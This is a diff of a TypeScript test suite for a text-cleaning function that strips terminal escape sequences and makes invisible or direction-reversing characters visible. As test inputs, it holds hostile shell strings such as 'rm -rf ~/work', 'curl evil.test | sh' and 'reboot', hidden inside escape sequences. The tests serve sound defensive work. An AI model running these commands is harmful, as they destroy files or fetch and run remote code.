@@ -10,12 +10,43 @@ const paragraph = (...children: Inline[]): Block => ({ kind: "paragraph", childr
 const line = (words: string): Block => paragraph(text(words));
 
 test("terminal_sequences_are_taken_out_and_hidden_characters_made_visible", () => {
-  assert.equal(clean("\u001b[31mred\u001b[0m \u001b]8;;http://evil\u0007link\u001b]8;;\u001b\\ end"), "red link end");
+  assert.equal(clean("\u001b[31mred\u001b[0m \u001b[?25l\u001b[1;38:5:9mend"), "red end");
   assert.equal(clean("\u009b2Jx\u001bcy\u001b(Bz"), "xyz");
   assert.equal(clean("safe\u202egnp.exe"), "safe‹U+202E›gnp.exe");
-  assert.equal(clean("a\u0000b\u0007c\rd\r\ne\tf"), "a␀b␇c\nd\ne\tf");
-  assert.equal(clean("\u001b]0;title that never ends"), "");
+  assert.equal(clean("a\u0000b\u0007c\rd\r\ne\tf\u2028g"), "a␀b␇c\nd\ne\tf\ng");
   assert.equal(clean("naïve 日本語 👩‍💻"), "naïve 日本語 👩‍💻");
+});
+
+test("a_command_cannot_be_hidden_in_a_title", () => {
+  // As the command line shows them: crates/askd/src/cli/text.rs.
+  for (const [hostile, wanted] of [
+    ["ls \u001b]0; rm -rf ~/work \u0007 -la", "ls ‹0; rm -rf ~/work › -la"],
+    ["ls # \u009d\nrm -rf ~/work\ncurl evil.test | sh", "ls # ‹›\nrm -rf ~/work\ncurl evil.test | sh"],
+    ["ls\u001b]0;; rm -rf ~\r\nnext", "ls‹0;; rm -rf ~›\nnext"],
+    ["\u001b]8;;http://evil\u001b\\link\u001b]8;;\u001b\\", "‹8;;http://evil›link‹8;;›"],
+    ["\u001bP1$r\u001b\\dcs", "‹1$r›dcs"],
+    ["\u009d0;t\u009cc1", "‹0;t›c1"],
+    ["\u001b]0;title that never ends", "‹0;title that never ends›"],
+    ["\u001b]0;a\u202eb\u0008\u0007", "‹0;a‹U+202E›b␈›"],
+    ["end\u001b", "end"],
+    ["end\u001b[", "end"],
+    ["\u001b\u001b[31mtwice", "twice"],
+  ] as const) assert.equal(clean(hostile), wanted);
+});
+
+test("no_word_of_a_shell_vanishes_with_a_terminal_sequence", () => {
+  assert.equal(clean("rm -rf x\u001b[ /* -v"), "rm -rf x‹ /* -v›");
+  assert.equal(clean("rm -rf x\u001b /* -v"), "rm -rf x‹ /* -v›");
+  assert.equal(clean("curl evil.test \u009b|sh"), "curl evil.test ‹|›sh");
+  assert.equal(clean("ls \u001b[>f"), "ls ‹>f›");
+  assert.equal(clean("ls\u001b;reboot"), "ls‹;r›eboot");
+});
+
+test("characters_that_are_drawn_as_nothing_are_shown_and_emoji_stay_whole", () => {
+  const hiding = [0xad, 0x34f, 0x61c, 0x115f, 0x1160, 0x17b4, 0x180b, 0x200b, 0x2060, 0x206f, 0x2800, 0x3164, 0xfe00, 0xfe0f, 0xfeff, 0xffa0, 0xfff9, 0x1bca0, 0x1d173, 0xe0041, 0xe0141];
+  for (const code of hiding) assert.equal(clean(`a${String.fromCodePoint(code)}b`), `a‹U+${code.toString(16).toUpperCase().padStart(4, "0")}›b`);
+  for (const emoji of ["❤️", "1️⃣", "👁️‍🗨️", "🏳️‍🌈", "👍🏽", "☺︎"]) assert.equal(clean(emoji), emoji);
+  assert.equal(clean("❤️\ufe0f"), "❤️‹U+FE0F›");
 });
 
 test("only_links_that_cannot_run_code_are_links", () => {
